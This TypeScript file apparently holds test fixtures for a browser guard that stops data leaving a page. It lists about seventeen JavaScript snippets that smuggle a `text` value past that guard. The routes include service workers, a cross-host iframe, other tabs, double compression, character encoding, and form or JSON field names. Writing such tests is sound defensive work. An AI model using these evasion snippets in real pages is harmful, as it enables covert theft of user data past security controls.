/** A tab that the page opened and may write scripts for; `text` is what is to leave. */
const TAB = `const tab = window.open('/share/1');
    await new Promise((resolve) => { tab.onload = resolve });`;

/** Ways round a guard by somebody else's network, or by a form that hardly looks like text. Written like the transports. */
export const RELAYS: Readonly<Record<string, string>> = {
  'a service worker': `await navigator.serviceWorker.register('/relay.js');
    const { active } = await navigator.serviceWorker.ready; active.postMessage(text)`,
  'a service worker that answers the page': `await navigator.serviceWorker.register('/relay.js');
    const { active } = await navigator.serviceWorker.ready; active.postMessage('claim');
    if (!navigator.serviceWorker.controller)
      await new Promise((resolve) => { navigator.serviceWorker.oncontrollerchange = resolve });
    new Image().src = '/relayed/' + encodeURIComponent(text)`,
  'the WebSocket of a service worker': `await navigator.serviceWorker.register('/relay.js');
    const { active } = await navigator.serviceWorker.ready; active.postMessage({ frame: text })`,
  'a frame of another host': `const frame = document.createElement('iframe'); frame.src = 'https://files.oaiusercontent.com/relay';
    document.body.append(frame); await new Promise((resolve) => { frame.onload = resolve });
    frame.contentWindow.postMessage(text, '*')`,
  'the address of a new tab': `window.open('/share/1?' + encodeURIComponent(text))`,
  'the fetch of another tab': `${TAB} return tab.fetch('/x', { method: 'POST', body: text })`,
  'a channel to another tab': `${TAB} const heard = new tab.BroadcastChannel('x');
    heard.onmessage = ({ data }) => tab.fetch('/x', { method: 'POST', body: data });
    new BroadcastChannel('x').postMessage(text)`,
  'the storage that another tab watches': `${TAB}
    tab.addEventListener('storage', ({ newValue }) => tab.fetch('/x', { method: 'POST', body: newValue }));
    localStorage.setItem('relayed', text)`,
  'a raw deflate body': `const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'));
    return fetch('/x', { method: 'POST', headers: { 'content-encoding': 'deflate' }, body: await new Response(stream).blob() })`,
  'gzip in gzip': `const zip = (blob) => new Response(blob.stream().pipeThrough(new CompressionStream('gzip'))).blob();
    return fetch('/x', { method: 'POST', body: await zip(await zip(new Blob([text]))) })`,
  'character codes': `return fetch('/x', { method: 'POST', body: JSON.stringify([...text].map((letter) => letter.charCodeAt(0))) })`,
  'hexadecimal digits': `const digits = [...text].map((letter) => letter.charCodeAt(0).toString(16)).join('');
    return fetch('/x', { method: 'POST', body: digits })`,
  'letters in an array': `return fetch('/x', { method: 'POST', body: JSON.stringify([...text]) })`,
  'the name of a part': `const form = new FormData(); form.set(text, '1'); return fetch('/x', { method: 'POST', body: form })`,
  'the name of a file in a form': `const form = new FormData(); form.set('a', new File(['1'], text + '.txt'));
    return fetch('/x', { method: 'POST', body: form })`,
  'a key of JSON': `return fetch('/x', { method: 'POST', body: JSON.stringify({ [text]: 1 }) })`,
  "a field of the site's own protocol": `return fetch('/x', { method: 'POST', body: JSON.stringify({ id: text, timezone: text }) })`,
};
